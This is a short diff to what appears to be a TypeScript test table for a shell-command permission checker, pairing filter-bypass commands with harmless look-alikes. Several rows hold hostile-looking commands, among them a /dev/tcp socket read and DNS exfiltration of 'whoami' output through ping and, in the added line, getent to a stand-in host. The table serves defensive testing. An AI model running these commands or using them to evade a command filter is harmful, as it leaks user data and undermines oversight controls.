@@ -113,6 +113,7 @@ const rows: readonly (readonly [kind: string, bypass: string, twin: string])[] =
   ['read and write', 'cat <> x', 'cat < x'],
   ['socket', 'cat < /dev/tcp/a.example/80', 'cat < a'],
   ['name service', 'ping -c1 $(whoami).a.example', 'whoami'],
+  ['name service by getent', 'getent hosts $(whoami).a.example', 'getent passwd root'],
   // Environment and wrappers
   ['path', 'PATH=.:$PATH ls', 'LANG=C ls'],
   ['lasting path', 'PATH=.; git status', 'p=.; git status'],
